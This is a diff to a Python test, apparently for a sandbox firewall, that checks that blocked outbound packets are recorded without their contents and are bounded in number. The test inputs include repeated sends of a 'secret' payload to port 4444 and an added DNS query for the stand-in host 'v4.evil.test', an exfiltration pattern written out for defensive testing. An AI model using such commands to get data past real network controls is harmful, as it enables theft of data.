@@ -199,7 +199,8 @@ def test_packets_to_addresses_that_a_firewall_rule_catches_are_recorded_and_boun
     program = (
         f"{SENDING}\nfor _ in range(3000): ask('93.184.216.34', 4444, b'secret')\nask('2606:4700::1111', 4444, b'x')"
     )
-    inside.run(f'/usr/bin/python3 -c "{program}"', before=CAUGHT)
+    answered = "ask('8.8.8.8', 53, question('v4.evil.test')).recv(9)"  # the relay has seen what came before
+    inside.run(f'/usr/bin/python3 -c "{program}\n{answered}"', before=CAUGHT)
     one = inside.attempt(reach=Reach.ADDRESS, host="udp", port=None, reason="address", allowed=False)
     assert "secret" not in one.model_dump_json()
     assert len(inside.attempts()) < 20
